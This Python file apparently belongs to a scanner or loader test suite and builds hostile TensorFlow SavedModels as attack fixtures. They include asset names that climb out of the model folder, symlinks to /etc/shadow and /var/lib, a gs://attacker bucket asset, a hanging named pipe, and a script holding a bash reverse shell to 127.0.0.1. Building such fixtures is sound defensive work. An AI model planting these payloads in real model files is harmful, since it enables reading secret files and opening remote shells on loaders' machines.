"""SavedModels whose files lie outside of them, or are none (reference 2.1 fact 4)."""

from __future__ import annotations

import os

import tensorflow as tf

from .build import STRING, by_hand, dense, export, export_v1, node, patch, scratch
from .registry import Place, attack, fires


def with_table(place: Place, key="a\nb\n"):
    vocabulary = scratch(place.path)
    vocabulary.mkdir(parents=True)
    (vocabulary / "vocab.txt").write_text(key)
    table = tf.lookup.StaticHashTable(
        tf.lookup.TextFileInitializer(
            str(vocabulary / "vocab.txt"),
            tf.string,
            tf.lookup.TextFileIndex.WHOLE_LINE,
            tf.int64,
            tf.lookup.TextFileIndex.LINE_NUMBER,
        ),
        -1,
    )
    export(place.path, lambda s: {"y": table.lookup(s)}, STRING, extra=table)


def _asset(id, name, about, value, shows, names=("asset",), also=("file-read",), trigger="load"):
    def build(place: Place):
        with_table(place)
        patch(
            place.path,
            lambda m: setattr(
                m.meta_graphs[0].asset_file_def[0], "filename", name.format(canary=place.canary)
            ),
        )

    build.__doc__ = about
    attack(
        id, "savedmodel", "path-traversal", [*names], value, also=also, trigger=trigger, fires=shows
    )(build)


_asset(
    "sm-asset-climbs",
    "../../../../../../../../../..{canary}/secret.txt",
    "An asset whose name climbs out of the model.",
    "secret.txt",
    fires("load-python", "opens", "secret.txt"),
)
_asset(
    "sm-asset-absolute",
    "{canary}/secret.txt",
    "An asset with an absolute name, which Python follows.",
    "secret.txt",
    fires("load-python", "opens", "secret.txt"),
    trigger="load-python",
)
_asset(
    "sm-asset-hides-climb",
    "sub/../../../../../../../../../etc/hostname",
    "An asset that goes down before it climbs.",
    "etc/hostname",
    None,
)
_asset(
    "sm-asset-dots",
    "./../../../../../../../../../etc//hosts",
    "An asset that begins with a dot.",
    "hosts",
    None,
)
_asset(
    "sm-asset-remote",
    "gs://attacker/vocab.txt",
    "An asset in a bucket.",
    "gs://attacker",
    None,
    also=("network", "file-read", "malformed"),
)


@attack(
    "sm-asset-symlink",
    "savedmodel",
    "path-traversal",
    ["symlink", "symbolic", "vocab.txt"],
    None,
    also=["file-read"],
    trigger="load",
    fires=fires("load-python", "opens", "secret.txt"),
)
def _(place: Place):
    """The asset is a symbolic link to a file of the machine."""
    with_table(place)
    file = place.path / "assets" / "vocab.txt"
    file.unlink()
    file.symlink_to(f"{place.canary}/secret.txt")


@attack(
    "sm-variables-symlink",
    "savedmodel",
    "path-traversal",
    ["symlink", "symbolic", "variables"],
    None,
    also=["file-read"],
    trigger="load",
)
def _(place: Place):
    """The folder of variables is a symbolic link to elsewhere."""
    dense(place.path)
    (place.path / "variables").rename(scratch(place.path))
    (place.path / "variables").symlink_to("/var/lib")


@attack(
    "sm-extra-symlink",
    "savedmodel",
    "path-traversal",
    ["symlink", "symbolic", "notes.txt"],
    None,
    also=["file-read"],
    trigger="none",
)
def _(place: Place):
    """A symbolic link in assets.extra."""
    dense(place.path)
    (place.path / "assets.extra").mkdir()
    (place.path / "assets.extra" / "notes.txt").symlink_to("/etc/shadow")


@attack(
    "sm-model-symlink",
    "savedmodel",
    "path-traversal",
    ["symlink", "symbolic", "saved_model.pb"],
    None,
    also=["file-read", "unreadable"],
    trigger="load",
)
def _(place: Place):
    """saved_model.pb itself is a symbolic link out of the folder."""
    place.path.mkdir()
    (place.path / "saved_model.pb").symlink_to("../../../../etc/hostname")


@attack(
    "sm-fifo",
    "savedmodel",
    "path-traversal",
    ["fifo", "FIFO", "pipe", "not a regular", "not a plain", "special"],
    None,
    also=["hang", "malformed", "unreadable", "payload"],
    trigger="load",
)
def _(place: Place):
    """An asset is a named pipe: whoever opens it waits for ever."""
    with_table(place)
    file = place.path / "assets" / "vocab.txt"
    file.unlink()
    os.mkfifo(file)


@attack(
    "sm-asset-missing",
    "savedmodel",
    "malformed",
    ["vocab.txt", "asset"],
    None,
    also=["contract", "unreadable"],
    trigger="load",
)
def _(place: Place):
    """An asset that is not there."""
    with_table(place)
    (place.path / "assets" / "vocab.txt").unlink()


@attack(
    "sm-executable-mode",
    "savedmodel",
    "payload",
    ["hook.sh", "script", "shell"],
    None,
    also=["code-execution"],
    trigger="none",
)
def _(place: Place):
    """A shell script in variables, which may be executed."""
    by_hand(place.path, [node("y", "Identity", ["x"], T=tf.float32)])
    (place.path / "variables").mkdir()
    script = place.path / "variables" / "hook.sh"
    script.write_text("#!/bin/bash\nbash -i >& /dev/tcp/127.0.0.1/18431 0>&1\n")
    script.chmod(0o755)


@attack(
    "sm-asset-collection",
    "savedmodel",
    "path-traversal",
    ["asset"],
    "secret.txt",
    also=["file-read"],
    trigger="load",
    fires=fires("load-cpp", "opens", "secret.txt"),
)
def _(place: Place):
    """A TF1 model lists its assets in a collection, not in asset_file_def; the name there climbs out."""
    from tensorflow.core.protobuf import meta_graph_pb2

    from .benign_tf1 import _estimator

    export_v1(place.path, lambda: _estimator(place))

    def edit(model):
        held = model.meta_graphs[0].collection_def["saved_model_assets"].any_list.value[0]
        asset = meta_graph_pb2.AssetFileDef()
        held.Unpack(asset)
        asset.filename = f"../../../../../../../../../..{place.canary}/secret.txt"
        held.Pack(asset)

    patch(place.path, edit)
